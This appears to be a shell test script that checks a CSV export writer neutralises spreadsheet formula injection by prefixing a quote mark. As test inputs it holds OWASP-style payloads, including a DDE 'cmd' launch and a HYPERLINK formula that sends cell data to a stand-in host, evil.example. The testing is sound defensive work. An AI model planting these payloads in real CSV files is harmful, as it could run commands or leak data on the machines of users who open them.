# SPDX-License-Identifier: GPL-2.0-or-later
# The one CSV writer (lib/csv_write.c) through both tools: values that a
# spreadsheet would run as formulas (the OWASP CSV-injection examples) and
# empty values, exported by 'ismsctl --csv ... list' and by dpmsctl's
# Art. 30 export, read back cell by cell and checked byte for byte.
. "$ISMS_TAP_LIB"
[ -n "${DPMSCTL:-}" ] && [ -x "$DPMSCTL" ] || skip_all "DPMSCTL not set"
command -v python3 >/dev/null 2>&1 || skip_all "python3 not found"

# cells ROW COL...: the cells of CSV record ROW (0 = header) in $OUT, as a Python list
cells() {
	python3 -c '
import csv, sys
r = list(csv.reader(open(sys.argv[1], newline="")))
row = r[int(sys.argv[2])]
print([row[int(c)] for c in sys.argv[3:]])' "$OUT" "$@"
}
# line N: record N of $OUT as bytes, CR shown as \r and tab as \t
line() { sed -n "$1p" "$OUT" | sed 's/\r$//' | sed "s/$(printf '\t')/\\\\t/g"; }

tab=$(printf '\t')

# --- ismsctl --------------------------------------------------------------------

isms init -q
expect_rc 0 "init"
isms -q measure add --title '-1+1'
isms -q measure add --title "-1+cmd|' /C calc'!A0"
isms -q measure add --title '=cmd|'"'"' /C calc'"'"'!A0'
isms -q measure add --title '+1+1'
isms -q measure add --title '@SUM(1+1)'
isms -q measure add --title "${tab}=1+1"
isms -q measure add --title '=HYPERLINK("http://evil.example/?"&A1,"Click")'
isms -q measure add --title 'a;=1+1'
isms -q measure add --title 'Smith, "Jo"' --cost 12.50
isms -q measure add --title '=1+1'
expect_rc 0 "measures with formula-like titles are added"
isms --csv measure list
expect_rc 0 "--csv measure list"
is "$(line 1)" "id,title,risk,control,owner,due,cost,status,nonconformity,management_review,overdue" \
	"the header"
is "$(line 2)" "M-1,'-1+1,,,,,,planned,,,no" "-1+1 gets the quote mark (the old guard let it through)"
is "$(line 3)" "M-2,'-1+cmd|' /C calc'!A0,,,,,,planned,,,no" "-1+cmd|' /C calc'!A0 gets the quote mark"
is "$(line 4)" "M-3,'=cmd|' /C calc'!A0,,,,,,planned,,,no" "=cmd|... gets the quote mark"
is "$(line 5)" "M-4,'+1+1,,,,,,planned,,,no" "+1+1 gets the quote mark"
is "$(line 6)" "M-5,'@SUM(1+1),,,,,,planned,,,no" "@SUM(1+1) gets the quote mark"
is "$(line 7)" "M-6,\"'\\t=1+1\",,,,,,planned,,,no" "a leading tab gets the quote mark, in quotes"
is "$(line 8)" "M-7,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",,,,,,planned,,,no" \
	"=HYPERLINK(...) gets the quote mark, its quotes doubled"
is "$(line 9)" "M-8,\"a;=1+1\",,,,,,planned,,,no" "a formula after a semicolon is quoted"
is "$(line 10)" "M-9,\"Smith, \"\"Jo\"\"\",,,,,12.50,planned,,,no" "commas and quotes are quoted"
is "$(cells 10 1 2 6)" "[\"'=1+1\", '', '']" "empty cells stay empty"
if grep -q ",',\|,\"'\"," "$OUT"; then not_ok "no empty value turned into a lone quote mark"
else ok "no empty value turned into a lone quote mark"; fi
is "$(grep -c "$(printf '\r')\$" "$OUT")" 11 "every record ends in CRLF"
isms --csv measure show M-2
is "$(sed -n 2p "$OUT" | tr -d '\r')" "M-2,'-1+cmd|' /C calc'!A0,,,,,,planned,,,no" "--csv show: the same writer"

# risk matrix: the scale's names and the counts through the writer too
isms --csv risk matrix
expect_rc 0 "--csv risk matrix"
is "$(line 1)" "likelihood,impact,level,risks" "the matrix header"

# --- dpmsctl: the Art. 30 export -------------------------------------------------------

export DPMS_STORE="$T/dpms.db"
dp init
expect_rc 0 "dpmsctl init"
dp -q controller add --name "ACME GmbH" --contact "=1+1"
dp -q dpo add --name "Dana" --contact "dpo@acme.example"
dp -q activity add --name "-1+cmd|' /C calc'!A0" --controller "ACME GmbH" \
	--purposes "-1+1" --data-subjects "@SUM(1+1)" --data-categories "${tab}x" \
	--recipients '=HYPERLINK("http://evil.example/","x")' --transfers "" --erasure "a;=1+1" \
	--toms "plain, with a comma" --lawful-basis contract
expect_rc 0 "an activity with formula-like values"
dp --csv ropa export
expect_rc 0 "ropa export --csv"
col() { python3 -c '
import csv, sys
r = list(csv.reader(open(sys.argv[1], newline="")))
print(r[1][r[0].index(sys.argv[2])])' "$OUT" "$1"; }
is "$(col name)" "'-1+cmd|' /C calc'!A0" "the activity's name gets the quote mark"
is "$(col "Purposes of the processing")" "'-1+1" "-1+1 gets the quote mark"
is "$(col "Categories of data subjects")" "'@SUM(1+1)" "@SUM gets the quote mark"
is "$(col "Categories of personal data")" "'${tab}x" "a leading tab gets the quote mark"
is "$(col "Categories of recipients")" "'=HYPERLINK(\"http://evil.example/\",\"x\")" "=HYPERLINK gets the quote mark"
is "$(col "Controller contact details")" "'=1+1" "the controller's contact gets the quote mark"
is "$(col "Transfers to third countries")" "" "an empty value is an empty cell, not a lone quote mark"
is "$(col "Time limits for erasure")" "a;=1+1" "a formula after a semicolon stays inside its cell"
is "$(col "Technical and organisational measures (Art. 32)")" "plain, with a comma" "a comma stays inside its cell"
if grep -q ",',\|,\"'\"," "$OUT"; then not_ok "no cell of the export is a lone quote mark"
else ok "no cell of the export is a lone quote mark"; fi
if grep -qF ",\"'-1+1\"," "$OUT" || grep -qF ",'-1+1," "$OUT"; then ok "the bytes: -1+1 written as '-1+1"
else not_ok "the bytes: -1+1 written as '-1+1"; fi
out_has ",\"'=HYPERLINK(\"\"http://evil.example/\"\",\"\"x\"\")\"," "the bytes: quotes doubled, in quotes"

done_testing
